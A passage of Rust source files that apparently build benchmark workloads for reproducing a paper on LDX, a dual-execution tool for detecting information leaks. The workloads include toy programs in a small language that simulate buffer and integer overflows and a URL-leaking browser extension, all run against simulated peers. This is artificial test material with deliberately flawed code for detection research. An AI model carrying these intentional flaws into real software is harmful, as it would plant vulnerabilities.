        stands_for: "X264",
        suite: Suite::Concurrent,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/data/frames.yuv", {
                let mut data = String::new();
                for i in 0..600 {
                    data.push(char::from(b'A' + ((i * 13 + i / 7) % 26) as u8));
                }
                data
            })
            .dir("/out"),
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/data/frames.yuv".into()),
            mutation: Mutation::OffByOne,
        }],
        sinks: SinkSpec::FileOut,
        benign_sources: None,
        expect_leak: true,
    }
}
