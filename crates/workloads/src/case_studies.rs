//! The paper's §8.4 case studies.

use crate::{Suite, Workload};
use ldx_dualex::{Mutation, SinkSpec, SourceMatcher, SourceSpec};
use ldx_vos::{PeerBehavior, VosConfig};
use std::collections::BTreeMap;

/// §8.4 "403.gcc": preprocessing nginx-like sources where the secret is
/// the `NGX_HAVE_POLL` configuration macro.
///
/// The master defines `NGX_HAVE_POLL`, the slave's mutated configuration
/// defines `NGX_HAVE_EPOLL` instead. The `#ifdef` blocks taken differ, so
/// the emitted (preprocessed) code differs — but only through **control
/// dependences** (paper Fig. 7: `pfile->state.skipping`), which is why
/// LIBDFT and TaintGrind miss it while LDX reports it.
pub fn preprocessor_case_study() -> Workload {
    let source = r##"
        global defines = ["", "", "", "", "", "", "", "", "", "", "", ""];
        global ndef = 0;

        fn is_defined(name) {
            for (let i = 0; i < ndef; i = i + 1) {
                if (defines[i] == name) { return 1; }
            }
            return 0;
        }

        fn define(name) {
            if (is_defined(name) == 0 && ndef < 12) {
                defines[ndef] = name;
                ndef = ndef + 1;
            }
            return 0;
        }

        fn emit(out, line) {
            // The output loop of the paper's case study (its lines
            // 216/217): every emitted line is a sink.
            write(out, line + "\n");
            return 0;
        }

        fn preprocess(path, out, depth) {
            if (depth > 5) { return 0; }
            let fd = open(path, 0);
            if (fd < 0) { return 0; }
            let text = read(fd, 8192);
            close(fd);
            let lines = split(text, "\n");
            let skipping = 0;
            for (let i = 0; i < len(lines); i = i + 1) {
                let line = trim(lines[i]);
                if (find(line, "#define ") == 0) {
                    if (skipping == 0) { define(substr(line, 8, 40)); }
                } else if (find(line, "#if ") == 0) {
                    // `#if NGX_HAVE_POLL` — the stored macro value feeds
                    // the skip decision through a branch only.
                    let skip = 0;
                    if (is_defined(substr(line, 4, 40)) == 0) { skip = 1; }
                    skipping = skip;
                } else if (line == "#endif") {
                    skipping = 0;
                } else if (find(line, "#include ") == 0) {
                    if (skipping == 0) {
                        preprocess("/nginx/src/" + substr(line, 9, 40), out, depth + 1);
                    }
                } else if (skipping == 0 && line != "") {
                    emit(out, line);
                }
            }
            return 0;
        }

        fn main() {
            let out = open("/out/ngx_module.i", 1);
            preprocess("/nginx/src/ngx_module.c", out, 0);
            close(out);
        }
    "##;
    Workload {
        name: "cs-gcc-ngx",
        stands_for: "403.gcc preprocessing nginx (case study)",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/nginx/src/ngx_auto_config.h", "#define NGX_HAVE_POLL\n")
            .file(
                "/nginx/src/ngx_module.c",
                "#include ngx_auto_config.h\n\
                 static_prologue();\n\
                 #if NGX_HAVE_POLL\n\
                 #include ngx_poll_module.h\n\
                 init_poll();\n\
                 #endif\n\
                 #if NGX_HAVE_EPOLL\n\
                 #include ngx_epoll_module.h\n\
                 init_epoll();\n\
                 #endif\n\
                 static_epilogue();\n",
            )
            .file(
                "/nginx/src/ngx_poll_module.h",
                "poll_handler_decl();\npoll_table_decl();\n",
            )
            .file("/nginx/src/ngx_epoll_module.h", "epoll_handler_decl();\n")
            .dir("/out"),
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/nginx/src/ngx_auto_config.h".into()),
            mutation: Mutation::Replace("#define NGX_HAVE_EPOLL\n".into()),
        }],
        sinks: SinkSpec::FileOut,
        benign_sources: None,
        expect_leak: true,
    }
}

/// §8.4 Firefox/ShowIP: the extension leaks the browsed URL to a remote
/// service from inside the event-handling path.
pub fn showip_case_study() -> Workload {
    let source = r##"
        global history = "";

        fn ext_showip(url) {
            // ShowIP 1.2rc5: "sends the current url to a remote server".
            let t = connect("showip.example");
            send(t, "ip-for " + url);
            let ip = recv(t, 32);
            close(t);
            return ip;
        }

        fn on_page_load(url) {
            let w = connect("web.example");
            send(w, "GET " + url);
            let body = recv(w, 256);
            close(w);
            history = history + url + ";";
            let ip = ext_showip(url);
            write(2, "status: " + url + " @" + ip + "\n");
            return len(body);
        }

        fn main() {
            let fd = open("/profile/session.txt", 0);
            let urls = split(trim(read(fd, 512)), "\n");
            close(fd);
            for (let i = 0; i < len(urls); i = i + 1) {
                on_page_load(urls[i]);
            }
            let hist = open("/profile/history.dat", 1);
            write(hist, history);
            close(hist);
        }
    "##;
    let mut web = BTreeMap::new();
    web.insert("GET /bank/account".to_string(), "balance page".to_string());
    web.insert("GET /webmail".to_string(), "inbox page".to_string());
    let mut showip = BTreeMap::new();
    showip.insert(
        "ip-for /bank/account".to_string(),
        "203.0.113.9".to_string(),
    );
    showip.insert("ip-for /webmail".to_string(), "203.0.113.7".to_string());
    Workload {
        name: "cs-showip",
        stands_for: "Firefox ShowIP extension (case study)",
        suite: Suite::NetSys,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/profile/session.txt", "/bank/account\n/webmail\n")
            .peer("web.example", PeerBehavior::Respond(web))
            .peer("showip.example", PeerBehavior::Respond(showip))
            .dir("/profile"),
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/profile/session.txt".into()),
            mutation: Mutation::Replace("/webmail\n/webmail\n".into()),
        }],
        sinks: SinkSpec::NetworkOut,
        benign_sources: None,
        expect_leak: true,
    }
}
