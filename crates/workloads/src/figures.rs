//! The paper's illustrative figures as runnable cases.
//!
//! * Figure 1 (a)–(d): the four examples contrasting counterfactual
//!   causality with program dependences;
//! * Figure 2/3: the employee/raise running example;
//! * Figure 4/5: the nested-loop alignment example.

use ldx_dualex::{DualSpec, Mutation, SinkSpec, SourceMatcher, SourceSpec};
use ldx_vos::{PeerBehavior, VosConfig};

/// One figure case: a program, its world, its spec, and what LDX and the
/// dependence-based trackers are expected to conclude.
#[derive(Debug, Clone)]
pub struct FigureCase {
    /// Which figure/panel this is.
    pub name: &'static str,
    /// The Lx source.
    pub source: String,
    /// The world.
    pub world: VosConfig,
    /// The dual-execution spec.
    pub spec: DualSpec,
    /// Does LDX (counterfactual causality) report?
    pub ldx_reports: bool,
    /// Does data-dependence tainting report?
    pub data_taint_reports: bool,
    /// Does data+control tainting report?
    pub control_taint_reports: bool,
}

fn world(secret: &str) -> VosConfig {
    VosConfig::new()
        .file("/secret", secret.to_string())
        .peer("out", PeerBehavior::Echo)
}

fn spec_with(mutation: Mutation) -> DualSpec {
    DualSpec {
        sources: vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/secret".into()),
            mutation,
        }],
        sinks: SinkSpec::NetworkOut,
        trace: false,
        record: false,
        enforcement: false,
        exec: Default::default(),
    }
}

/// The four panels of Figure 1.
pub fn figure1_programs() -> Vec<FigureCase> {
    vec![
        // (a) Strong CC through a data dependence: everyone detects it.
        FigureCase {
            name: "fig1a-data-dep",
            source: r#"fn main() {
                let x = int(read(open("/secret", 0), 8));
                let t = x + 1;
                let y = t * 3;
                send(connect("out"), str(y));
            }"#
            .to_string(),
            world: world("41"),
            spec: spec_with(Mutation::OffByOne),
            ldx_reports: true,
            data_taint_reports: true,
            control_taint_reports: true,
        },
        // (b) Strong CC through a control dependence: one-to-one mapping
        // x -> s, but no data flow. Data tainting misses it.
        FigureCase {
            name: "fig1b-strong-control",
            source: r#"fn main() {
                let x = int(read(open("/secret", 0), 8));
                let s = 0;
                if (x % 2 == 1) { s = 10; } else { s = 20; }
                send(connect("out"), str(s));
            }"#
            .to_string(),
            world: world("1"),
            spec: spec_with(Mutation::OffByOne),
            ldx_reports: true,
            data_taint_reports: false,
            control_taint_reports: true,
        },
        // (c) Weak CC: many source values map to the same sink value
        // (x = s > 50). Control tainting reports it anyway (a useless
        // warning); LDX's off-by-one perturbation does not flip the
        // predicate, so it stays silent — the paper's argument that
        // control dependences over-approximate.
        FigureCase {
            name: "fig1c-weak-control",
            source: r#"fn main() {
                let s = int(read(open("/secret", 0), 8));
                let x = 0;
                if (s > 50) { x = 1; }
                send(connect("out"), str(x));
            }"#
            .to_string(),
            world: world("73"),
            spec: spec_with(Mutation::OffByOne),
            ldx_reports: false,
            data_taint_reports: false,
            control_taint_reports: true,
        },
        // (d) Strong CC missed by both data and control tracking: the
        // *absence* of an update reveals the secret.
        FigureCase {
            name: "fig1d-absence",
            source: r#"fn main() {
                let s = int(read(open("/secret", 0), 8));
                let x = 0;
                if (s != 10) { x = 1; }
                send(connect("out"), str(x));
            }"#
            .to_string(),
            world: world("10"),
            spec: spec_with(Mutation::OffByOne),
            ldx_reports: true,
            data_taint_reports: false,
            // The taken branch (else) performs no tainted assignment, so
            // even control-scope tainting has nothing to taint.
            control_taint_reports: false,
        },
    ]
}

/// The Figure 2/3 running example: employee record processing.
pub fn figure2_employee() -> FigureCase {
    FigureCase {
        name: "fig2-employee",
        source: r#"
            fn sraise(salary, contract) {
                let fd = open(contract, 0);
                let rate = int(read(fd, 4));
                close(fd);
                return salary * rate / 100;
            }
            fn mraise(salary) {
                let r = sraise(salary, "/contracts/manager");
                if (salary > 5000) {
                    write(3, "senior manager");
                }
                return r + 10;
            }
            fn main() {
                let fd = open("/employee", 0);
                let title = trim(read(fd, 8));
                close(fd);
                let pfd = open("/payroll", 0);
                let salary = int(trim(read(pfd, 8)));
                let raise = 0;
                if (title == "STAFF") {
                    raise = sraise(salary, "/contracts/staff");
                } else {
                    raise = mraise(salary);
                    let dept = read(pfd, 8);
                }
                close(pfd);
                send(connect("hr.example"), str(raise));
            }
        "#
        .to_string(),
        world: VosConfig::new()
            .file("/employee", "STAFF")
            .file("/payroll", "1000    SALES   ")
            .file("/contracts/staff", "3   ")
            .file("/contracts/manager", "7   ")
            .peer("hr.example", PeerBehavior::Echo),
        spec: DualSpec {
            sources: vec![SourceSpec {
                matcher: SourceMatcher::FileRead("/employee".into()),
                mutation: Mutation::Replace("MANAGER".into()),
            }],
            sinks: SinkSpec::NetworkOut,
            trace: true,
            record: false,
            enforcement: false,
            exec: Default::default(),
        },
        ldx_reports: true,
        data_taint_reports: false,
        control_taint_reports: true,
    }
}

/// The Figure 4/5 loop-alignment example: the loop bounds are the sources.
pub fn figure4_loops() -> FigureCase {
    FigureCase {
        name: "fig4-loops",
        source: r#"fn main() {
            let hfd = open("/in-header", 0);
            let header = split(trim(read(hfd, 8)), " ");
            close(hfd);
            let n = int(header[0]);
            let m = int(header[1]);
            let fd = open("/in-data", 0);
            let total = 0;
            for (let i = 0; i < n; i = i + 1) {
                for (let j = 0; j < m; j = j + 1) {
                    let d = read(fd, 2);
                    total = total + int(d);
                }
                write(3, str(total));
            }
            close(fd);
            send(connect("out"), str(total) + "/" + str(n) + "x" + str(m));
        }"#
        .to_string(),
        world: VosConfig::new()
            .file("/in-header", "1 2")
            .file("/in-data", "10203040506070")
            .peer("out", PeerBehavior::Echo),
        spec: DualSpec {
            sources: vec![SourceSpec {
                matcher: SourceMatcher::FileRead("/in-header".into()),
                mutation: Mutation::Replace("2 1".into()),
            }],
            sinks: SinkSpec::NetworkOut,
            trace: true,
            record: false,
            enforcement: false,
            exec: Default::default(),
        },
        ldx_reports: true,
        data_taint_reports: true,
        control_taint_reports: true,
    }
}
