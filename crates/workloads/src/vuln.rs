//! The 6 vulnerable-program stand-ins (gif2png, mp3info, prozilla, yops,
//! ngircd, gcc) for attack detection.
//!
//! The paper mutates untrusted inputs and watches *critical execution
//! points*: function return addresses (buffer overflows) and memory-
//! management arguments (integer overflows). Lx has no raw memory, so each
//! program funnels its critical value through a one-line `guard`
//! function — `write(3, str(v))` at site 0 — and the sink spec is
//! `Sites([("guard", 0)])`. Three of the six corrupt the critical value
//! through *data* flow (dependence-based tainting can catch them too) and
//! three through *control* flow (length/validity checks) — only
//! counterfactual causality catches those, reproducing Table 3's gap.

use crate::{Suite, Workload};
use ldx_dualex::{SinkSpec, SourceSpec};
use ldx_vos::{PeerBehavior, VosConfig};

fn guard_sinks() -> SinkSpec {
    SinkSpec::Sites(vec![("guard".into(), 0)])
}

pub(crate) fn workloads() -> Vec<Workload> {
    vec![minimg(), mintag(), minget(), minyops(), minirc(), minasm()]
}

/// gif2png: header length field drives a copy loop (data-flow overflow).
fn minimg() -> Workload {
    let source = r#"
        fn guard(v) { write(3, str(v)); return 0; }

        fn convert(header, pixels) {
            // "stack buffer" of 8 cells with the return address after it.
            let frame = array(10, 0);
            frame = set(frame, 9, 4096);      // return address slot
            let count = int(substr(header, 4, 4));
            for (let i = 0; i < count && i < 10; i = i + 1) {
                let px = 0;
                if (i < len(pixels)) { px = ord(pixels, i); }
                frame = set(frame, i, px);     // overflow: count > 8
            }
            guard(frame[9]);
            return 0;
        }

        fn main() {
            let fd = open("/input/image.gif", 0);
            let header = read(fd, 8);
            let pixels = read(fd, 64);
            close(fd);
            convert(header, pixels);
        }
    "#;
    Workload {
        name: "minimg",
        stands_for: "Gif2png",
        suite: Suite::Vulnerable,
        source: source.to_string(),
        // count=0010 with >8 overflows into the "return address" slot.
        world: VosConfig::new().file("/input/image.gif", "GIF80010ABCDEFGHIJ"),
        sources: vec![SourceSpec::file("/input/image.gif")],
        sinks: guard_sinks(),
        benign_sources: None,
        expect_leak: true,
    }
}

/// mp3info: tag size flows into an allocation size (integer overflow).
fn mintag() -> Workload {
    let source = r#"
        fn guard(v) { write(3, str(v)); return 0; }

        fn main() {
            let fd = open("/input/song.mp3", 0);
            let tag = read(fd, 32);
            close(fd);
            if (find(tag, "TAG") != 0) {
                write(2, "no tag\n");
                return;
            }
            let frames = int(substr(tag, 3, 4));
            let framesize = int(substr(tag, 7, 4));
            // Integer overflow: the allocation size wraps through
            // multiplication of attacker-controlled fields.
            let alloc = frames * framesize;
            guard(alloc);
            let buf = array(min(alloc, 64), 0);
            write(2, "parsed " + str(len(buf)) + " cells\n");
        }
    "#;
    Workload {
        name: "mintag",
        stands_for: "Mp3info",
        suite: Suite::Vulnerable,
        source: source.to_string(),
        world: VosConfig::new().file("/input/song.mp3", "TAG00120256"),
        sources: vec![SourceSpec::file("/input/song.mp3")],
        sinks: guard_sinks(),
        benign_sources: None,
        expect_leak: true,
    }
}

/// prozilla: server-controlled chunk size overflows through a *control*
/// decision (the length check itself is the corrupted step).
fn minget() -> Workload {
    let source = r#"
        fn guard(v) { write(3, str(v)); return 0; }

        fn main() {
            let s = connect("mirror.example");
            send(s, "GET file");
            let head = recv(s, 16);
            let body = recv(s, 128);
            close(s);
            let retaddr = 4096;
            // Control-dependent corruption: an oversized response smashes
            // the frame, which manifests as a *fixed* corrupted value —
            // there is no data flow from the input to the new value.
            if (len(body) > 24) {
                retaddr = 0;
            }
            guard(retaddr);
            let out = open("/out/file", 1);
            write(out, substr(body, 0, 24));
            close(out);
        }
    "#;
    Workload {
        name: "minget",
        stands_for: "Prozilla",
        suite: Suite::Vulnerable,
        source: source.to_string(),
        world: VosConfig::new()
            .peer(
                "mirror.example",
                PeerBehavior::Script(vec!["len=23".into(), "aaaaaaaaaaaaaaaaaaaaaaa".into()]),
            )
            .dir("/out"),
        sources: vec![SourceSpec {
            matcher: ldx_dualex::SourceMatcher::NetRecv("mirror.example".into()),
            mutation: ldx_dualex::Mutation::Replace("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa".into()),
        }],
        sinks: guard_sinks(),
        benign_sources: None,
        expect_leak: true,
    }
}

/// yops: request-path length check bypass (control-flow corruption).
fn minyops() -> Workload {
    let source = r#"
        fn guard(v) { write(3, str(v)); return 0; }

        fn handle(conn) {
            let req = trim(recv(conn, 128));
            let retaddr = 4096;
            let path = "";
            if (find(req, "GET ") == 0) {
                path = substr(req, 4, 120);
                // The "stack buffer" holds 16 chars; a longer path
                // clobbers the saved return address with a canary value
                // (control-dependent, no data flow).
                if (len(path) > 16) {
                    retaddr = 666;
                }
            }
            guard(retaddr);
            if (retaddr == 4096) {
                send(conn, "200 ok " + path);
            } else {
                send(conn, "500");
            }
            return 0;
        }

        fn main() {
            let conn = accept(80);
            while (conn >= 0) {
                handle(conn);
                close(conn);
                conn = accept(80);
            }
        }
    "#;
    Workload {
        name: "minyops",
        stands_for: "Yops",
        suite: Suite::Vulnerable,
        source: source.to_string(),
        world: VosConfig::new().listen(80, vec!["GET /index.html".into()]),
        sources: vec![SourceSpec {
            matcher: ldx_dualex::SourceMatcher::ClientRecv(80),
            mutation: ldx_dualex::Mutation::Replace("GET /AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA".into()),
        }],
        sinks: guard_sinks(),
        benign_sources: None,
        expect_leak: true,
    }
}

/// ngircd: nickname parsing overflow (data flow into the critical value).
fn minirc() -> Workload {
    let source = r#"
        fn guard(v) { write(3, str(v)); return 0; }

        fn main() {
            let conn = accept(6667);
            if (conn < 0) { return; }
            let line = trim(recv(conn, 128));
            let retaddr = 4096;
            if (find(line, "NICK ") == 0) {
                let nick = substr(line, 5, 120);
                if (len(nick) > 9) {
                    // The overflowing bytes *become* the return address.
                    retaddr = int(substr(nick, 9, 8));
                }
                send(conn, "001 welcome " + substr(nick, 0, 9));
            }
            guard(retaddr);
            close(conn);
        }
    "#;
    Workload {
        name: "minirc",
        stands_for: "Ngircd",
        suite: Suite::Vulnerable,
        source: source.to_string(),
        world: VosConfig::new().listen(6667, vec!["NICK alice".into()]),
        sources: vec![SourceSpec {
            matcher: ldx_dualex::SourceMatcher::ClientRecv(6667),
            mutation: ldx_dualex::Mutation::Replace("NICK aaaaaaaaa99990000".into()),
        }],
        sinks: guard_sinks(),
        benign_sources: None,
        expect_leak: true,
    }
}

/// gcc (vulnerable build): macro-expansion depth overflow (control flow).
fn minasm() -> Workload {
    let source = r#"
        fn guard(v) { write(3, str(v)); return 0; }

        fn expand(text, depth) {
            if (depth > 6) { return "OVERFLOW"; }
            let idx = find(text, "$M");
            if (idx < 0) { return text; }
            let head = substr(text, 0, idx);
            let tail = substr(text, idx + 2, 256);
            return expand(head + "mac()" + tail, depth + 1);
        }

        fn main() {
            let fd = open("/input/prog.s", 0);
            let text = trim(read(fd, 256));
            close(fd);
            let expanded = expand(text, 0);
            let retaddr = 4096;
            if (expanded == "OVERFLOW") {
                // Expansion blew the stack: corrupted return.
                retaddr = 0;
            }
            guard(retaddr);
            let out = open("/out/prog.o", 1);
            write(out, expanded);
            close(out);
        }
    "#;
    Workload {
        name: "minasm",
        stands_for: "Gcc (vulnerable)",
        suite: Suite::Vulnerable,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/input/prog.s", "start $M end")
            .dir("/out"),
        sources: vec![SourceSpec {
            matcher: ldx_dualex::SourceMatcher::FileRead("/input/prog.s".into()),
            mutation: ldx_dualex::Mutation::Replace("start $M$M$M$M$M$M$M$M end".into()),
        }],
        sinks: guard_sinks(),
        benign_sources: None,
        expect_leak: true,
    }
}
