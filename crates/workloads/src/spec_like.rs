//! The 12 SPECINT2006 stand-ins.
//!
//! Each program is a small but real compute kernel exercising the control
//! flow the corresponding SPEC program is known for (perlbench: an
//! interpreter with indirect dispatch; gcc: a preprocessor; sjeng: deep
//! recursion with a `setjmp` escape; omnetpp: an event loop over function
//! references; …). Inputs come from data files; outputs go to local files
//! (the paper's sink choice for non-network programs).

use crate::{Suite, Workload};
use ldx_dualex::{Mutation, SinkSpec, SourceSpec};
use ldx_vos::VosConfig;

fn banner_benign() -> Vec<SourceSpec> {
    vec![SourceSpec::file("/etc/banner")]
}

pub(crate) fn workloads() -> Vec<Workload> {
    vec![
        minperl(),
        minzip(),
        minicc(),
        minflow(),
        minigo(),
        minhmm(),
        minchess(),
        minquantum(),
        minh264(),
        minsim(),
        minastar(),
        minxform(),
    ]
}

/// 400.perlbench: a toy script interpreter with an indirect dispatch table.
fn minperl() -> Workload {
    let source = r##"
        global vars = [0, 0, 0, 0, 0, 0, 0, 0];

        fn slot(name) {
            return ord(name, 0) % 8;
        }
        fn op_set(a, b) { vars[slot(a)] = int(b); return 0; }
        fn op_add(a, b) { vars[slot(a)] = vars[slot(a)] + int(b); return 0; }
        fn op_mul(a, b) { vars[slot(a)] = vars[slot(a)] * int(b); return 0; }

        fn run_line(line, out) {
            let parts = split(trim(line), " ");
            if (len(parts) == 0) { return 0; }
            let cmd = parts[0];
            if (cmd == "print") {
                write(out, str(vars[slot(parts[1])]) + "\n");
                return 0;
            }
            let table = [&op_set, &op_add, &op_mul];
            let idx = 0 - 1;
            if (cmd == "set") { idx = 0; }
            if (cmd == "add") { idx = 1; }
            if (cmd == "mul") { idx = 2; }
            if (idx >= 0 && len(parts) >= 3) {
                let handler = table[idx];
                handler(parts[1], parts[2]);
            }
            return 0;
        }

        fn main() {
            let bfd = open("/etc/banner", 0);
            write(2, read(bfd, 64));
            close(bfd);
            let fd = open("/scripts/job.pl", 0);
            let text = read(fd, 4096);
            close(fd);
            let out = open("/out/result", 1);
            let lines = split(text, "\n");
            for (let i = 0; i < len(lines); i = i + 1) {
                run_line(lines[i], out);
            }
            close(out);
        }
    "##;
    Workload {
        name: "minperl",
        stands_for: "400.perlbench",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/etc/banner", "minperl v1\n")
            .file(
                "/scripts/job.pl",
                "set x 5\nadd x 7\nmul x 3\nprint x\nset y 2\nadd y 9\nprint y\n",
            )
            .dir("/out"),
        sources: vec![SourceSpec::file("/scripts/job.pl")],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(banner_benign()),
        expect_leak: true,
    }
}

/// 401.bzip2: run-length compression.
fn minzip() -> Workload {
    let source = r##"
        fn rle(data) {
            let out = "";
            let i = 0;
            while (i < len(data)) {
                let c = data[i];
                let run = 1;
                while (i + run < len(data) && data[i + run] == c) {
                    run = run + 1;
                }
                out = out + str(run) + c;
                i = i + run;
            }
            return out;
        }

        fn main() {
            let bfd = open("/etc/banner", 0);
            write(2, read(bfd, 64));
            close(bfd);
            let fd = open("/data/input.txt", 0);
            let out = open("/out/data.rle", 1);
            let chunk = read(fd, 256);
            while (chunk != "") {
                write(out, rle(chunk));
                chunk = read(fd, 256);
            }
            close(fd);
            close(out);
        }
    "##;
    Workload {
        name: "minzip",
        stands_for: "401.bzip2",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file(
                "/data/input.txt",
                "aaaabbbcccccccddddddddddabcabcaaaxyzzzzz",
            )
            .file("/etc/banner", "minzip\n")
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/input.txt")],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(banner_benign()),
        expect_leak: true,
    }
}

/// 403.gcc: a miniature C preprocessor (conditional compilation).
fn minicc() -> Workload {
    let source = r##"
        global defines = ["", "", "", "", "", "", "", ""];
        global ndef = 0;

        fn is_defined(name) {
            for (let i = 0; i < ndef; i = i + 1) {
                if (defines[i] == name) { return 1; }
            }
            return 0;
        }

        fn define(name) {
            if (is_defined(name) == 0) {
                defines[ndef % 8] = name;
                ndef = ndef + 1;
            }
            return 0;
        }

        fn preprocess(path, out, depth) {
            if (depth > 4) { return 0; }
            let fd = open(path, 0);
            if (fd < 0) { return 0; }
            let text = read(fd, 4096);
            close(fd);
            let lines = split(text, "\n");
            let skipping = 0;
            for (let i = 0; i < len(lines); i = i + 1) {
                let line = trim(lines[i]);
                if (find(line, "#define ") == 0) {
                    if (skipping == 0) { define(substr(line, 8, 32)); }
                } else if (find(line, "#ifdef ") == 0) {
                    if (is_defined(substr(line, 7, 32)) == 0) { skipping = 1; }
                } else if (line == "#endif") {
                    skipping = 0;
                } else if (find(line, "#include ") == 0) {
                    if (skipping == 0) {
                        preprocess("/src/" + substr(line, 9, 32), out, depth + 1);
                    }
                } else {
                    if (skipping == 0 && line != "") {
                        write(out, line + "\n");
                    }
                }
            }
            return 0;
        }

        fn main() {
            let bfd = open("/etc/banner", 0);
            write(2, read(bfd, 64));
            close(bfd);
            let out = open("/out/pp.c", 1);
            preprocess("/src/main.c", out, 0);
            close(out);
        }
    "##;
    Workload {
        name: "minicc",
        stands_for: "403.gcc",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file(
                "/src/config.h",
                "#define HAVE_POLL\n#define FAST_PATH\n",
            )
            .file(
                "/src/main.c",
                "#include config.h\n#ifdef HAVE_POLL\nuse_poll();\n#endif\n#ifdef HAVE_EPOLL\nuse_epoll();\n#endif\nmain_body();\n",
            )
            .file("/etc/banner", "minicc\n")
            .dir("/out"),
        sources: vec![SourceSpec {
            matcher: ldx_dualex::SourceMatcher::FileRead("/src/config.h".into()),
            mutation: Mutation::Replace("#define HAVE_EPOLL\n#define FAST_PATH\n".into()),
        }],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(banner_benign()),
        expect_leak: true,
    }
}

/// 429.mcf: single-source shortest paths (Bellman–Ford) over an edge list.
fn minflow() -> Workload {
    let source = r##"
        fn main() {
            let bfd = open("/etc/banner", 0);
            write(2, read(bfd, 64));
            close(bfd);
            let fd = open("/data/graph.txt", 0);
            let text = read(fd, 4096);
            close(fd);
            let lines = split(trim(text), "\n");
            let n = int(lines[0]);
            if (n < 1) { n = 1; }
            if (n > 32) { n = 32; }
            let dist = array(n, 999999);
            dist = set(dist, 0, 0);
            for (let round = 0; round < n; round = round + 1) {
                for (let e = 1; e < len(lines); e = e + 1) {
                    let parts = split(trim(lines[e]), " ");
                    if (len(parts) >= 3) {
                        let u = int(parts[0]) % n;
                        let v = int(parts[1]) % n;
                        let w = int(parts[2]);
                        if (dist[u] + w < dist[v]) {
                            dist = set(dist, v, dist[u] + w);
                        }
                    }
                }
            }
            let out = open("/out/dist.txt", 1);
            for (let i = 0; i < n; i = i + 1) {
                write(out, str(i) + ":" + str(dist[i]) + "\n");
            }
            close(out);
        }
    "##;
    Workload {
        name: "minflow",
        stands_for: "429.mcf",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file(
                "/data/graph.txt",
                "6\n0 1 4\n0 2 1\n2 1 2\n1 3 5\n2 3 8\n3 4 3\n4 5 1\n1 5 9\n",
            )
            .file("/etc/banner", "minflow\n")
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/graph.txt")],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(banner_benign()),
        expect_leak: true,
    }
}

/// 445.gobmk: two-ply game-tree evaluation over a small board.
fn minigo() -> Workload {
    let source = r##"
        fn score(board, pos, who) {
            let s = 0;
            let n = len(board);
            if (pos > 0 && board[pos - 1] == who) { s = s + 2; }
            if (pos + 1 < n && board[pos + 1] == who) { s = s + 2; }
            if (board[pos] == ".") { s = s + 1; }
            return s;
        }

        fn best_reply(board, who) {
            let best = 0 - 99;
            for (let p = 0; p < len(board); p = p + 1) {
                if (board[p] == ".") {
                    let s = score(board, p, who);
                    if (s > best) { best = s; }
                }
            }
            return best;
        }

        fn main() {
            let bfd = open("/etc/banner", 0);
            write(2, read(bfd, 64));
            close(bfd);
            let fd = open("/data/board.txt", 0);
            let board = trim(read(fd, 128));
            close(fd);
            let bestmove = 0 - 1;
            let bestval = 0 - 999;
            for (let p = 0; p < len(board); p = p + 1) {
                if (board[p] == ".") {
                    let mine = score(board, p, "x");
                    let reply = best_reply(board, "o");
                    let v = mine * 2 - reply;
                    if (v > bestval) {
                        bestval = v;
                        bestmove = p;
                    }
                }
            }
            let xs = 0;
            let os = 0;
            for (let c = 0; c < len(board); c = c + 1) {
                if (board[c] == "x") { xs = xs + 1; }
                if (board[c] == "o") { os = os + 1; }
            }
            let out = open("/out/move.txt", 1);
            write(out, "move " + str(bestmove) + " value " + str(bestval) + "\n");
            write(out, "stones x=" + str(xs) + " o=" + str(os) + "\n");
            close(out);
        }
    "##;
    Workload {
        name: "minigo",
        stands_for: "445.gobmk",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/data/board.txt", "x.o.xx..o.x....o")
            .file("/etc/banner", "minigo\n")
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/board.txt")],
        sinks: SinkSpec::FileOut,
        benign_sources: Some(banner_benign()),
        expect_leak: true,
    }
}

/// 456.hmmer: dynamic-programming sequence alignment score.
fn minhmm() -> Workload {
    let source = r##"
        fn main() {
            let fd = open("/data/seqs.txt", 0);
            let text = trim(read(fd, 512));
            close(fd);
            let parts = split(text, "\n");
            let a = parts[0];
            let b = parts[1];
            let la = len(a);
            let lb = len(b);
            let prev = array(lb + 1, 0);
            for (let i = 0; i < la; i = i + 1) {
                let cur = array(lb + 1, 0);
                for (let j = 0; j < lb; j = j + 1) {
                    let diag = prev[j];
                    if (a[i] == b[j]) { diag = diag + 3; }
                    else { diag = diag - 1; }
                    let up = prev[j + 1] - 2;
                    let left = cur[j] - 2;
                    let best = max(diag, max(up, left));
                    cur = set(cur, j + 1, best);
                }
                prev = cur;
            }
            let out = open("/out/score.txt", 1);
            write(out, "score=" + str(prev[lb]) + "\n");
            close(out);
        }
    "##;
    Workload {
        name: "minhmm",
        stands_for: "456.hmmer",
        suite: Suite::SpecLike,
        source: source.to_string(),
        world: VosConfig::new()
            .file("/data/seqs.txt", "ACGTACGGTAC\nACGGACGTTAC\n")
            .dir("/out"),
        sources: vec![SourceSpec::file("/data/seqs.txt")],
        sinks: SinkSpec::FileOut,
        benign_sources: None,
        expect_leak: true,
    }
}

/// 458.sjeng: recursive negamax with a setjmp "search timeout" escape.
fn minchess() -> Workload {
    let source = r##"
        global nodes = 0;

        fn evaluate(pieces, depth, sign) {
            nodes = nodes + 1;
            if (nodes > 200) { longjmp(nodes); }
